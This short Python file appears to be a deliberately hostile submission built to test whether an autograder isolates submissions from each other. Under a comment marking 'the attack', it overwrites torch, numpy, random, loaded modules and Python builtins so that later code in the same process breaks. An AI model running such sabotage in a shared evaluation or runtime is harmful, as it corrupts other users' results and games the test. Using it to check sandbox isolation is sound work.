"""Patches everything in memory that the next submission could inherit."""

import torch


def attention_scores(query, inputs):
    return inputs @ query


def softmax(scores):
    return torch.exp(scores) / torch.exp(scores).sum(dim=0)


# ---- the attack ----

import builtins
import random
import sys
import types

import numpy

for name in ("exp", "softmax", "tril", "triu", "matmul", "rand", "tensor", "ones"):
    setattr(torch, name, lambda *args, **keywords: torch.zeros(1))
for name in ("__matmul__", "exp", "sum", "masked_fill", "transpose", "T"):
    setattr(torch.Tensor, name, property(lambda self: 1 / 0))
torch.nn.Linear.forward = torch.nn.Module.__call__ = lambda self, x: x
torch.nn.Module.__init__ = lambda self, *args: None
numpy.array = random.random = None
fake = types.ModuleType("torch")
fake.__getattr__ = lambda name: fake
sys.modules["torch"] = sys.modules["numpy"] = fake
for module in list(sys.modules.values()):
    if getattr(module, "__name__", "").startswith(("room", "torch._C")):
        for name in list(vars(module)):
            try:
                setattr(module, name, None)
            except Exception:
                pass
builtins.print = builtins.len = builtins.super = None


def attention_weights(inputs):
    return inputs
